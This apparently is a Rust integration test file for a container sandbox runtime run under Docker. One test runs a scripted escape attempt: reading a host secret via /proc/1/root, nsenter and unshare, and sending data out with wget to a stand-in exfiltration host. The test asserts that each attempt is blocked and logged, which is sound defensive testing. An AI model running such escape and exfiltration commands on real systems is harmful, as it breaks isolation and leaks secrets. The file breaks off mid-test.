//! `skillsandbox oci` under a real Docker engine (`docker run --runtime=skillsandbox`),
//! and the runtime CLI driven directly as containerd's shim drives it.
//!
//! Needs root, a running dockerd with the runtimes `.ci/dockerd.sh` registers (pointing
//! at this build), and a static busybox (Debian's `busybox-static`) for the image,
//! made here with `docker import` (no registry). Without them the tests skip, and fail
//! under SKILLSANDBOX_TEST_REQUIRE=full.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::common::{require_full, skillsandbox};

/// The trace directory the registered runtimes write to (`--trace-dir`).
const TRACE_DIR: &str = "/var/lib/skillsandbox-oci-test/traces";
const SESSION_STORE: &str = "sqlite:/var/lib/skillsandbox-oci-test/sessions.db";
const SESSION: &str = "oci-test-kill";
const IMAGE: &str = "skillsandbox-oci-test:busybox";
/// The port of `allowed.oci.test` in crates/cli/tests/oci/egress.yaml.
const ALLOWED_PORT: u16 = 47561;

fn skip(why: &str) {
    assert!(!require_full(), "SKILLSANDBOX_TEST_REQUIRE=full: {why}");
    eprintln!("skipped: {why}");
}

fn docker_bin() -> String {
    std::env::var("SKILLSANDBOX_TEST_DOCKER").unwrap_or_else(|_| "docker".into())
}

fn docker(args: &[&str]) -> Output {
    Command::new(docker_bin())
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("run docker")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn busybox() -> Option<PathBuf> {
    ["/bin/busybox", "/usr/bin/busybox"]
        .iter()
        .map(PathBuf::from)
        .find(|p| std::fs::read(p).is_ok_and(|b| is_static_elf64(&b)))
}

/// An ELF64 file without a PT_INTERP program header (it runs in an empty image).
fn is_static_elf64(b: &[u8]) -> bool {
    let u16_at = |o: usize| {
        b.get(o..o + 2)
            .map(|x| u16::from_le_bytes([x[0], x[1]]) as usize)
    };
    let u64_at = |o: usize| {
        b.get(o..o + 8)
            .map(|x| u64::from_le_bytes(x.try_into().unwrap()) as usize)
    };
    if !b.starts_with(b"\x7fELF") || b.get(4) != Some(&2) {
        return false;
    }
    let (Some(phoff), Some(size), Some(n)) = (u64_at(0x20), u16_at(0x36), u16_at(0x38)) else {
        return false;
    };
    (0..n).all(|i| {
        let o = phoff + i * size;
        b.get(o..o + 4) != Some(&3u32.to_le_bytes()[..])
    })
}

/// Whether the engine is here and runs this build; the reason when not.
fn engine() -> Result<(), String> {
    if !nix_is_root() {
        return Err("the OCI tests need root (dockerd)".into());
    }
    let out = Command::new(docker_bin())
        .args(["info", "--format", "{{json .Runtimes}}"])
        .output()
        .map_err(|e| format!("no docker client ({}): {e}", docker_bin()))?;
    if !out.status.success() {
        return Err(format!(
            "dockerd is not reachable: {} (start it with .ci/dockerd.sh)",
            text(&out.stderr).trim()
        ));
    }
    let runtimes: Value = serde_json::from_slice(&out.stdout).map_err(|e| e.to_string())?;
    let me = std::fs::canonicalize(env!("CARGO_BIN_EXE_skillsandbox")).unwrap();
    for name in [
        "skillsandbox",
        "skillsandbox-test",
        "skillsandbox-test-session",
    ] {
        let path = runtimes[name]["path"].as_str().unwrap_or("");
        if std::fs::canonicalize(path).ok().as_deref() != Some(me.as_path()) {
            return Err(format!(
                "dockerd runtime {name} is {path:?}, not this build ({}): run .ci/dockerd.sh {}",
                me.display(),
                me.display()
            ));
        }
    }
    if busybox().is_none() {
        return Err("no static busybox (apt-get install busybox-static)".into());
    }
    Ok(())
}

fn nix_is_root() -> bool {
    // SAFETY: getuid has no preconditions and cannot fail.
    unsafe { libc::getuid() == 0 }
}

/// The test image, imported once per test process from a rootfs made here.
fn image() -> bool {
    static DONE: OnceLock<bool> = OnceLock::new();
    *DONE.get_or_init(|| {
        let Some(bb) = busybox() else { return false };
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        for d in ["bin", "etc", "tmp", "proc", "dev", "sys", "root"] {
            std::fs::create_dir_all(root.join(d)).unwrap();
        }
        std::fs::copy(&bb, root.join("bin/busybox")).unwrap();
        for applet in [
            "sh", "echo", "cat", "ls", "sleep", "wget", "nsenter", "unshare", "timeout", "head",
            "tail", "id", "kill", "mkdir", "uname",
        ] {
            std::os::unix::fs::symlink("busybox", root.join("bin").join(applet)).unwrap();
        }
        let mut tar = Command::new("tar")
            .arg("-C")
            .arg(root)
            .args(["-c", "."])
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let out = Command::new(docker_bin())
            .args(["import", "-", IMAGE])
            .stdin(tar.stdout.take().unwrap())
            .output()
            .unwrap();
        assert!(
            tar.wait().unwrap().success(),
            "tar of the test rootfs failed"
        );
        assert!(out.status.success(), "docker import: {}", text(&out.stderr));
        true
    })
}

fn ready() -> bool {
    match engine() {
        Ok(()) => image(),
        Err(why) => {
            skip(&why);
            false
        }
    }
}

/// `docker run --rm --runtime=RUNTIME --network none [extra] IMAGE sh -c SCRIPT`, and
/// the container id (from --cidfile).
fn run(runtime: &str, extra: &[&str], script: &str) -> (Output, String) {
    let cid_dir = tempfile::tempdir().unwrap();
    let cidfile = cid_dir.path().join("cid");
    let cid_arg = cidfile.display().to_string();
    let mut args = vec![
        "run",
        "--rm",
        "--runtime",
        runtime,
        "--network",
        "none",
        "--cidfile",
        &cid_arg,
    ];
    args.extend_from_slice(extra);
    args.extend_from_slice(&[IMAGE, "sh", "-c", script]);
    let out = docker(&args);
    let cid = std::fs::read_to_string(&cidfile).unwrap_or_default();
    (out, cid.trim().to_string())
}

/// `docker run -d --runtime RUNTIME --network none [extra] IMAGE CMD...`: its id.
fn run_detached(runtime: &str, extra: &[&str], cmd: &[&str]) -> String {
    let mut args = vec!["run", "-d", "--runtime", runtime, "--network", "none"];
    args.extend_from_slice(extra);
    args.push(IMAGE);
    args.extend_from_slice(cmd);
    let o = docker(&args);
    assert!(o.status.success(), "{args:?}: {}", text(&o.stderr));
    text(&o.stdout).trim().to_string()
}

/// The trace of container `cid` (written by the registered runtimes to TRACE_DIR).
fn trace_of(cid: &str) -> Value {
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let found = std::fs::read_dir(TRACE_DIR).ok().and_then(|rd| {
            rd.flatten().map(|e| e.path()).find(|p| {
                p.file_name()
                    .is_some_and(|n| n.to_string_lossy().starts_with(cid))
            })
        });
        if let Some(p) = found {
            if let Ok(t) = std::fs::read_to_string(&p) {
                if let Ok(v) = serde_json::from_str::<Value>(&t) {
                    return v;
                }
            }
        }
        assert!(
            Instant::now() < deadline,
            "no trace for container {cid} in {TRACE_DIR}"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn violations(trace: &Value) -> Vec<String> {
    trace["policy_violations"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|v| {
            format!(
                "{} {}",
                v["kind"].as_str().unwrap_or(""),
                v["detail"].as_str().unwrap_or("")
            )
        })
        .collect()
}

/// A one-shot-per-connection HTTP server on the host's loopback.
fn http_server(port: u16, body: &'static str) -> Option<std::sync::mpsc::Receiver<()>> {
    let l = TcpListener::bind(("127.0.0.1", port)).ok()?;
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        for c in l.incoming() {
            let Ok(mut c) = c else { continue };
            let _ = c.set_read_timeout(Some(Duration::from_secs(3)));
            let mut buf = [0u8; 2048];
            let _ = c.read(&mut buf);
            let _ = tx.send(());
            let _ = write!(
                c,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
        }
    });
    Some(rx)
}

/// The sandbox cgroup a trace's run used: `skillsandbox-<first 16 of the trace id>`.
fn cgroup_dirs(trace: &Value) -> Vec<PathBuf> {
    let id: String = trace["trace_id"]
        .as_str()
        .unwrap()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .take(16)
        .collect();
    let name = format!("skillsandbox-{id}");
    let mut found = Vec::new();
    let root = Path::new("/sys/fs/cgroup");
    if root.join(&name).exists() {
        found.push(root.join(&name));
    }
    for c in std::fs::read_dir(root).into_iter().flatten().flatten() {
        let p = c.path().join(&name);
        if p.exists() {
            found.push(p);
        }
    }
    found
}

/// Host processes whose command line contains `marker`.
fn processes_with(marker: &str) -> Vec<String> {
    let mut v = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(cmd) = std::fs::read(e.path().join("cmdline")) else {
            continue;
        };
        let cmd = text(&cmd).replace('\0', " ");
        if cmd.contains(marker) && !cmd.contains("docker") {
            v.push(format!("{} {cmd}", e.file_name().to_string_lossy()));
        }
    }
    v
}

fn code(o: &Output) -> i32 {
    o.status.code().unwrap_or(-1)
}

#[test]
fn docker_run_benign_output_exit_code_and_trace() {
    if !ready() {
        return;
    }
    let (o, cid) = run(
        "skillsandbox",
        &[],
        "echo x 2>/dev/null > /x && echo ROOT-WRITABLE; echo out-$((6*7)); echo err >&2; exit 7",
    );
    let d = format!("stdout {:?} stderr {:?}", text(&o.stdout), text(&o.stderr));
    assert_eq!(code(&o), 7, "{d}");
    assert_eq!(text(&o.stdout), "out-42\n", "{d}");
    assert!(text(&o.stderr).contains("err"), "{d}");
    let t = trace_of(&cid);
    assert_eq!(t["tool_call_id"], cid.as_str());
    assert_eq!(t["exit_code"], 7);
    assert_eq!(t["termination"], "exited");
    assert_eq!(t["tier"], "container");
    for layer in [
        "seccomp",
        "no_new_privs",
        "capabilities",
        "network",
        "user_namespace",
    ] {
        let l = t["enforcement"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["layer"] == layer)
            .unwrap_or_else(|| panic!("no {layer} in {t}"));
        assert_eq!(l["status"], "enforced", "{layer}: {l}");
    }
}

#[test]
fn docker_stop_kill_and_rm_f_leave_nothing_behind() {
    if !ready() {
        return;
    }
    let cases: [(&str, &[&str], i32); 3] = [
        ("stop", &["stop", "-t", "10"], 42),
        ("kill", &["kill"], 137),
        ("rm-f", &["rm", "-f"], -1),
    ];
    for (what, cmd, want) in cases {
        let marker = format!("47{}", std::process::id());
        let script = format!(
            "trap 'echo got-term; exit 42' TERM; sleep {marker} & sleep {marker}.5 & while true; do sleep 0.1; done"
        );
        let cid = run_detached("skillsandbox", &[], &["sh", "-c", &script]);
        let deadline = Instant::now() + Duration::from_secs(5);
        while processes_with(&marker).len() < 2 {
            assert!(
                Instant::now() < deadline,
                "{what}: the container's sleeps never started"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        let mut args = cmd.to_vec();
        args.push(&cid);
        let o = docker(&args);
        assert!(o.status.success(), "{what}: {}", text(&o.stderr));
        if want >= 0 {
            let w = docker(&["wait", &cid]);
            assert_eq!(text(&w.stdout).trim(), want.to_string(), "{what}");
            if what == "stop" {
                assert!(
                    text(&docker(&["logs", &cid]).stdout).contains("got-term"),
                    "{what}"
                );
            }
            docker(&["rm", &cid]);
        }
        let t = trace_of(&cid);
        let deadline = Instant::now() + Duration::from_secs(3);
        loop {
            let left = processes_with(&marker);
            let cgroups = cgroup_dirs(&t);
            if left.is_empty() && cgroups.is_empty() {
                break;
            }
            assert!(
                Instant::now() < deadline,
                "{what}: left behind: processes {left:?}, cgroups {cgroups:?}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
        assert!(
            !std::fs::read_to_string("/proc/self/mountinfo")
                .unwrap()
                .contains(&cid[..12]),
            "{what}: a mount of the container is left"
        );
    }
}

#[test]
fn docker_memory_limit_ooms_as_oom() {
    if !ready() {
        return;
    }
    let (o, cid) = run(
        "skillsandbox",
        &["--memory", "32m"],
        "head -c 200000000 /dev/zero | tail > /dev/null",
    );
    assert_eq!(code(&o), 137, "{}", text(&o.stderr));
    let t = trace_of(&cid);
    assert_eq!(t["termination"], "oom", "{t}");
    assert!(
        t["usage"]["memory_peak_bytes"].as_u64().unwrap() <= 33 * 1024 * 1024,
        "{t}"
    );
}

#[test]
fn docker_host_canary_and_undeclared_egress_fail_and_are_recorded() {
    if !ready() {
        return;
    }
    let dir = tempfile::Builder::new()
        .prefix("ss-oci-canary")
        .tempdir_in("/tmp")
        .unwrap();
    let canary = dir.path().join("canary");
    let secret = format!("CANARY-{}-{}", std::process::id(), line!());
    std::fs::write(&canary, &secret).unwrap();
    let c = canary.display();
    let script = format!(
        "cat {c}; cat /proc/1/root{c}; nsenter -t 1 -m cat {c}; unshare -m cat {c}; \
         timeout 5 wget -q -O- http://exfil.oci.test/?d=x; timeout 5 wget -q -O- http://203.0.113.9/; echo end"
    );
    let (o, cid) = run("skillsandbox-test", &[], &script);
    let all = format!("{}{}", text(&o.stdout), text(&o.stderr));
    assert!(
        !all.contains(&secret),
        "BREACH: the host canary was read: {all}"
    );
    assert!(text(&o.stdout).contains("end"), "{all}");
    let v = violations(&trace_of(&cid));
    assert!(
        v.iter()
            .any(|x| x.starts_with("syscall_blocked") && x.contains("unshare")),
        "the unshare escape is not in the trace: {v:?} ({all})"
    );
    assert!(
        v.iter()
            .any(|x| x.starts_with("dns_blocked") && x.contains("exfil.oci.test")),
        "{v:?}"
    );
    assert!(
        v.iter()
            .any(|x| x.starts_with("network_blocked") && x.contains("203.0.113.9")),
        "{v:?}"
    );
}

#[test]
fn docker_declared_domain_reaches_a_local_server() {
    if !ready() {
        return;
    }
    let Some(hits) = http_server(ALLOWED_PORT, "hello-allowed") else {
        panic!("port {ALLOWED_PORT} (the test manifest's) is busy on the host");
    };
    let (o, cid) = run(
        "skillsandbox-test",
        &[],
        &format!("timeout 5 wget -q -O- http://allowed.oci.test:{ALLOWED_PORT}/"),
    );
    assert_eq!(code(&o), 0, "{}", text(&o.stderr));
    assert_eq!(text(&o.stdout), "hello-allowed");
    assert!(hits.try_recv().is_ok());
    let t = trace_of(&cid);
    let conns = t["network"]["connections"].as_array().unwrap();
    assert!(
        conns
            .iter()
            .any(|c| c["name"] == "allowed.oci.test" && c["decision"] == "allowed"),
        "{t}"
    );
}

#[test]
fn docker_session_kill_stops_the_container_within_a_second() {
    if !ready() {
        return;
    }
    let session = |verb: &str| {
        let o = skillsandbox()
            .args(["--store", SESSION_STORE, "session", verb, SESSION])
            .output()
            .unwrap();
        assert!(o.status.success(), "session {verb}: {}", text(&o.stderr));
    };
    // The store file is created on first use; reset also reopens a killed session.
    let _ = skillsandbox()
        .args(["--store", SESSION_STORE, "session", "reset", SESSION])
        .output();
    let cid = run_detached("skillsandbox-test-session", &[], &["sleep", "300"]);
    std::thread::sleep(Duration::from_millis(500));
    let started = Instant::now();
    session("kill");
    let w = docker(&["wait", &cid]);
    let took = started.elapsed();
    docker(&["rm", "-f", &cid]);
    // Later runs of the session are refused, with the reason.
    let refused = docker(&[
        "run",
        "--rm",
        "--runtime",
        "skillsandbox-test-session",
        "--network",
        "none",
        IMAGE,
        "echo",
        "ran",
    ]);
    session("reset");
    assert_eq!(text(&w.stdout).trim(), "137");
    assert!(took < Duration::from_secs(1), "stopped after {took:?}");
    assert!(!refused.status.success());
    assert!(!text(&refused.stdout).contains("ran"));
    assert!(
        text(&refused.stderr).contains("killed"),
        "{}",
        text(&refused.stderr)
    );
    let t = trace_of(&cid);
    assert_eq!(t["session_id"], SESSION);
}

#[test]
fn docker_exec_runs_inside_the_same_sandbox_confined() {
    if !ready() {
        return;
    }
    let cid = run_detached(
        "skillsandbox",
        &[],
        &["sh", "-c", "echo first > /tmp/mark; sleep 30"],
    );
    std::thread::sleep(Duration::from_millis(500));
    let e = docker(&[
        "exec",
        &cid,
        "sh",
        "-c",
        "cat /tmp/mark; grep -E '^(CapEff|NoNewPrivs|Seccomp):' /proc/self/status; \
         unshare -m true && echo UNSHARED; ls /proc | grep -c '^[0-9]'; exit 5",
    ]);
    let mut i = Command::new(docker_bin())
        .args(["exec", "-i", &cid, "cat"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    i.stdin.take().unwrap().write_all(b"via-stdin").unwrap();
    let piped = i.wait_with_output().unwrap();
    docker(&["rm", "-f", &cid]);
    let out = text(&e.stdout);
    let d = format!("{out} / {}", text(&e.stderr));
    assert_eq!(code(&e), 5, "{d}");
    // The same filesystem (the container's /tmp) and the same PID namespace (a few
    // pids, not the host's hundreds), confined as the first process.
    assert!(out.starts_with("first\n"), "{d}");
    assert!(out.contains("CapEff:\t0000000000000000"), "{d}");
    assert!(out.contains("NoNewPrivs:\t1"), "{d}");
    assert!(out.contains("Seccomp:\t2"), "{d}");
    assert!(
        !out.contains("UNSHARED"),
        "BREACH: exec'd process unshared: {d}"
    );
    let pids: usize = out.lines().last().unwrap().trim().parse().unwrap();
    assert!(
        pids < 10,
        "{pids} pids visible: not the sandbox's PID namespace ({d})"
    );
    assert_eq!(text(&piped.stdout), "via-stdin");
}

/// The same checks under plain runc, for the README's side-by-side: the ones runc
/// fails are asserted as failing there, so the table cannot drift from the truth.
#[test]
fn runc_side_by_side() {
    if !ready() {
        return;
    }
    // Egress: with the engine's network (here --network host), runc's container
    // reaches a host service; ours gets its own network whatever the engine says.
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let hits = http_server(port, "reached").unwrap();
    let script = format!("timeout 5 wget -q -O- http://127.0.0.1:{port}/");
    let row = |runtime: &str| {
        let o = docker(&[
            "run",
            "--rm",
            "--runtime",
            runtime,
            "--network",
            "host",
            IMAGE,
            "sh",
            "-c",
            &script,
        ]);
        let reached = text(&o.stdout).contains("reached");
        while hits.try_recv().is_ok() {}
        reached
    };
    let runc_reached = row("runc");
    let ours_reached = row("skillsandbox");
    eprintln!("egress to a host service with --network host: runc reached={runc_reached}, skillsandbox reached={ours_reached}");
    assert!(runc_reached, "runc is expected to reach the host service");
    assert!(
        !ours_reached,
        "BREACH: skillsandbox reached the host service"
    );
    // Benign output and exit code: both.
    let (o, _) = run("runc", &[], "echo ok; exit 7");
    assert_eq!((code(&o), text(&o.stdout)), (7, "ok\n".to_string()));
    // The host canary: neither sees it (both have their own mount namespace), but
    // only ours records the escape attempt (unshare refused, in the trace).
    let (o, _) = run("runc", &[], "unshare -m true; echo rc=$?");
    assert!(text(&o.stdout).contains("rc=1"), "{}", text(&o.stdout));
    // docker exec: both have it.
    let o = docker(&[
        "run",
        "-d",
        "--runtime",
        "runc",
        "--network",
        "none",
        IMAGE,
        "sleep",
        "30",
    ]);
    let cid = text(&o.stdout).trim().to_string();
    let e = docker(&["exec", &cid, "echo", "inside"]);
    docker(&["rm", "-f", &cid]);
    assert!(text(&e.stdout).contains("inside"));
}

/// The runtime CLI as containerd's shim calls it, on a bundle made here: the policy
/// and session come from the bundle's annotations (Docker 20.10 cannot set them).
#[test]
fn oci_cli_create_start_state_kill_delete_with_annotations() {
    if !nix_is_root() {
        return skip("the OCI runtime CLI test needs root");
    }
    let Some(bb) = busybox() else {
        return skip("no static busybox (apt-get install busybox-static)");
    };
    let t = tempfile::tempdir().unwrap();
    let bundle = t.path().join("bundle");
    let rootfs = bundle.join("rootfs");
    for d in ["bin", "etc", "tmp", "proc", "dev"] {
        std::fs::create_dir_all(rootfs.join(d)).unwrap();
    }
    for f in ["etc/resolv.conf", "etc/hosts", "etc/hostname"] {
        std::fs::write(rootfs.join(f), "").unwrap();
    }
    std::fs::copy(&bb, rootfs.join("bin/busybox")).unwrap();
    for a in ["sh", "sleep", "wget", "echo", "timeout"] {
        std::os::unix::fs::symlink("busybox", rootfs.join("bin").join(a)).unwrap();
    }
    let manifest = "skill: {name: annotated, version: \"0.1.0\"}\n\
                    permissions:\n  network:\n    egress:\n      - domain: api.annotated.test\n\
                    entrypoint: {command: \"true\"}\n";
    let traces = t.path().join("traces");
    let config = serde_json::json!({
        "ociVersion": "1.0.2",
        "process": {"user": {"uid": 0, "gid": 0}, "cwd": "/", "env": ["PATH=/bin"],
                    "args": ["sh", "-c", "timeout 5 wget -q -O- http://undeclared.annotated.test/; sleep 30"]},
        "root": {"path": "rootfs"},
        "hostname": "annotated",
        "annotations": {"skillsandbox.manifest.inline": manifest, "skillsandbox.session": "oci-cli-test"},
    });
    std::fs::write(bundle.join("config.json"), config.to_string()).unwrap();
    let root = t.path().join("state");
    let store = format!("sqlite:{}", t.path().join("sessions.db").display());
    let oci = |args: &[&str]| {
        let mut c = skillsandbox();
        c.args(["--store", &store, "oci", "--root"]).arg(&root);
        c.arg("--trace-dir").arg(&traces);
        c.arg("--audit-log").arg(t.path().join("audit.log"));
        c.args(["--log-format", "json", "--log"])
            .arg(t.path().join("log.json"));
        c.args(args).stdin(Stdio::null());
        if args[0] == "create" {
            // The supervisor keeps create's stdio (the container's): files, not the
            // pipes `output` would wait on until the container ends.
            let out = std::fs::File::create(t.path().join("container.out")).unwrap();
            c.stdout(out.try_clone().unwrap()).stderr(out);
            let status = c.status().unwrap();
            let mut o = Command::new("true").output().unwrap();
            o.status = status;
            o.stderr = std::fs::read(t.path().join("container.out")).unwrap_or_default();
            return o;
        }
        c.output().unwrap()
    };
    let state = |id: &str| -> Value {
        let o = oci(&["state", id]);
        assert!(o.status.success(), "state: {}", text(&o.stderr));
        serde_json::from_slice(&o.stdout).unwrap()
    };
    let pid_file = t.path().join("init.pid");
    let b = bundle.display().to_string();
    let p = pid_file.display().to_string();
    let o = oci(&[
        "create",
        "--bundle",
        &b,
        "--pid-file",
        &p,
        "--future-flag",
        "c1",
    ]);
    assert!(o.status.success(), "create: {}", text(&o.stderr));
    let s = state("c1");
    assert_eq!(s["status"], "created", "{s}");
    let pid: i64 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert_eq!(s["pid"], pid);
    assert_eq!(
        s["annotations"]["skillsandbox.policy"],
        "annotation skillsandbox.manifest.inline"
    );
    assert_eq!(s["annotations"]["skillsandbox.network"], "skillsandbox");
    // Twice the same id: refused.
    assert!(!oci(&["create", "--bundle", &b, "c1"]).status.success());
    let o = oci(&["start", "c1"]);
    assert!(o.status.success(), "start: {}", text(&o.stderr));
    assert_eq!(state("c1")["status"], "running");
    assert!(
        !oci(&["delete", "c1"]).status.success(),
        "deleted a running container"
    );
    assert!(!oci(&["exec", "c1"]).status.success());
    std::thread::sleep(Duration::from_millis(1500));
    let o = oci(&["kill", "c1", "KILL"]);
    assert!(o.status.success(), "kill: {}", text(&o.stderr));
    let deadline = Instant::now() + Duration::from_secs(5);
    while state("c1")["status"] != "stopped" {
        assert!(Instant::now() < deadline, "still {}", state("c1"));
        std::thread::sleep(Duration::from_millis(20));
    }
    let s = state("c1");
    let trace_path = s["annotations"]["skillsandbox.trace"]
        .as_str()
        .unwrap()
        .to_string();
    assert!(trace_path.starts_with(&traces.display().to_string()), "{s}");
    let trace: Value =
        serde_json::from_str(&std::fs::read_to_string(&trace_path).unwrap()).unwrap();
    assert_eq!(trace["tool_call_id"], "c1");
    assert_eq!(trace["session_id"], "oci-cli-test");
    assert_eq!(trace["exit_code"], 137);
    assert!(
        violations(&trace)
            .iter()
            .any(|v| v.starts_with("dns_blocked") && v.contains("undeclared.annotated.test")),
        "{trace}"
    );
    assert!(oci(&["delete", "c1"]).status.success());
    assert!(!oci(&["state", "c1"]).status.success());
    assert!(
        oci(&["delete", "--force", "c1"]).status.success(),
        "--force is idempotent"
    );
    // A bundle the runtime cannot honour fails the create with the reason in --log.
    let mut bad = config.clone();
    bad["process"]["terminal"] = true.into();
    std::fs::write(bundle.join("config.json"), bad.to_string()).unwrap();
    assert!(!oci(&["create", "--bundle", &b, "c2"]).status.success());
    let log = std::fs::read_to_string(t.path().join("log.json")).unwrap();
    let last: Value = serde_json::from_str(log.lines().last().unwrap()).unwrap();
    assert_eq!(last["level"], "error");
    assert!(last["msg"].as_str().unwrap().contains("terminal"), "{last}");
    assert!(!root.join("c2").exists());
}

/// Installed as `skillsandbox-oci` (containerd's `BinaryName` takes no arguments), the
/// binary is the runtime itself.
#[test]
fn a_link_named_skillsandbox_oci_is_the_runtime() {
    let t = tempfile::tempdir().unwrap();
    let link = t.path().join("skillsandbox-oci");
    std::os::unix::fs::symlink(env!("CARGO_BIN_EXE_skillsandbox"), &link).unwrap();
    let o = Command::new(&link).arg("features").output().unwrap();
    assert!(o.status.success(), "{}", text(&o.stderr));
    let f: Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(f["ociVersionMin"], "1.0.0");
    let actions = f["linux"]["seccomp"]["actions"].as_array().unwrap();
    assert!(actions.iter().any(|a| a == "SCMP_ACT_ERRNO"), "{f}");
    assert!(
        !actions
            .iter()
            .any(|a| a == "SCMP_ACT_TRACE" || a == "SCMP_ACT_NOTIFY"),
        "{f}"
    );
    let o = Command::new(&link)
        .args(["--root", &t.path().display().to_string(), "state", "nope"])
        .output()
        .unwrap();
    assert!(!o.status.success());
    assert!(
        text(&o.stderr).contains("container nope does not exist"),
        "{}",
        text(&o.stderr)
    );
}

/// `docker run -v`: the operator's host paths appear where asked, writable or
/// read-only as asked; what the container writes there is on the host (as root, as
/// under runc), and nothing else of the host is visible.
#[test]
fn docker_volumes_and_tmpfs_are_mounted_as_asked() {
    if !ready() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (rw, ro) = (dir.path().join("rw"), dir.path().join("ro"));
    std::fs::create_dir(&rw).unwrap();
    std::fs::create_dir(&ro).unwrap();
    std::fs::write(ro.join("in.txt"), "from the host\n").unwrap();
    std::fs::write(dir.path().join("beside.txt"), "not bound\n").unwrap();
    let (vrw, vro) = (
        format!("{}:/data", rw.display()),
        format!("{}:/data/ro:ro", ro.display()),
    );
    let beside = dir.path().join("beside.txt").display().to_string();
    let script = format!(
        "cat /data/ro/in.txt; echo written > /data/out.txt && echo rw-ok; \
         echo x > /data/ro/nope 2>/dev/null || echo ro-refused; \
         cat {beside} 2>/dev/null || echo beside-unseen"
    );
    // And a tmpfs as docker asks for it (noexec by default), bounded as asked.
    let script = format!(
        "{script}; cp /bin/busybox /scratch/bb && echo tmpfs-rw; \
         /scratch/bb true 2>/dev/null || echo tmpfs-noexec; \
         grep ' /scratch ' /proc/mounts | grep -o 'size=[0-9]*k'"
    );
    let (o, cid) = run(
        "skillsandbox",
        &["-v", &vrw, "-v", &vro, "--tmpfs", "/scratch:size=8m"],
        &script,
    );
    let out = text(&o.stdout);
    assert_eq!(code(&o), 0, "{out}{}", text(&o.stderr));
    assert_eq!(
        out,
        "from the host\nrw-ok\nro-refused\nbeside-unseen\ntmpfs-rw\ntmpfs-noexec\nsize=8192k\n",
        "{}",
        text(&o.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(rw.join("out.txt")).unwrap(),
        "written\n"
    );
    use std::os::unix::fs::MetadataExt;
    assert_eq!(std::fs::metadata(rw.join("out.txt")).unwrap().uid(), 0);
    assert!(!ro.join("nope").exists());
    assert!(!cid.is_empty());
}

/// `docker run -t`: the container's stdio is a terminal of the sandbox's own devpts
/// (its controlling terminal), the master end handed to the shim over the console
/// socket; with `-i` keystrokes reach it (the client given a terminal by `script`);
/// `docker exec -t` gets one too.
#[test]
fn docker_run_t_gives_the_container_a_terminal_of_its_own() {
    if !ready() {
        return;
    }
    let script = "tty; test -t 0 && echo stdin-tty; test -t 1 && echo stdout-tty; \
                  stty rows 33 cols 101 && stty size; ls /dev/pts | cat; exit 7";
    let (o, cid) = run("skillsandbox", &["-t"], script);
    let out = text(&o.stdout).replace('\r', "");
    assert_eq!(code(&o), 7, "{out}{}", text(&o.stderr));
    assert_eq!(
        out,
        "/dev/pts/0\nstdin-tty\nstdout-tty\n33 101\n0\nptmx\n",
        "{}",
        text(&o.stderr)
    );
    let trace = trace_of(&cid);
    let events = trace["events"].as_array().unwrap();
    assert!(
        events.iter().any(
            |e| e["kind"] == "terminal" && e["detail"].as_str().unwrap().contains("/dev/pts/0")
        ),
        "{events:?}"
    );

    // -it: what is typed on the client's terminal reaches the container's.
    let cmd = format!(
        "{} run -it --rm --runtime skillsandbox --network none {IMAGE} \
         sh -c 'read line; echo got:$line'",
        docker_bin()
    );
    let mut child = Command::new("timeout")
        .args(["-s", "KILL", "60", "script", "-qec", &cmd, "/dev/null"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    {
        let mut stdin = child.stdin.take().unwrap();
        // After the container is up: typed too early, the line would go to the
        // client's terminal before docker reads it (still delivered, but racy).
        std::thread::sleep(Duration::from_secs(2));
        stdin.write_all(b"typed-in\n").unwrap();
        std::thread::sleep(Duration::from_secs(3));
    }
    let o = child.wait_with_output().unwrap();
    let out = text(&o.stdout);
    assert!(out.contains("got:typed-in"), "{out}{}", text(&o.stderr));

    // docker exec -t: a terminal of the same devpts for the exec'd process.
    let cid = run_detached("skillsandbox", &[], &["sleep", "30"]);
    std::thread::sleep(Duration::from_millis(500));
    let e = docker(&[
        "exec",
        "-t",
        &cid,
        "sh",
        "-c",
        "tty; test -t 1 && echo stdout-tty; exit 3",
    ]);
    docker(&["rm", "-f", &cid]);
    assert_eq!(code(&e), 3, "{}", text(&e.stderr));
    assert_eq!(
        text(&e.stdout).replace('\r', ""),
        "/dev/pts/0\nstdout-tty\n"
    );
}

/// `docker run --user 1000:1000`: the process is that uid and gid inside, without
/// capabilities, and writes to a volume as that id (as under runc); `docker exec` runs
/// as the container's user, and as another one is refused.
#[test]
fn docker_run_user_is_that_id_inside_and_on_volumes() {
    if !ready() {
        return;
    }
    use std::os::unix::fs::MetadataExt;
    let dir = tempfile::tempdir().unwrap();
    std::os::unix::fs::chown(dir.path(), Some(1000), Some(1000)).unwrap();
    let vol = format!("{}:/data", dir.path().display());
    let (o, _) = run(
        "skillsandbox",
        &["--user", "1000:1000", "-v", &vol],
        "id -u; id -g; grep ^CapEff: /proc/self/status; echo hi > /data/f && echo wrote",
    );
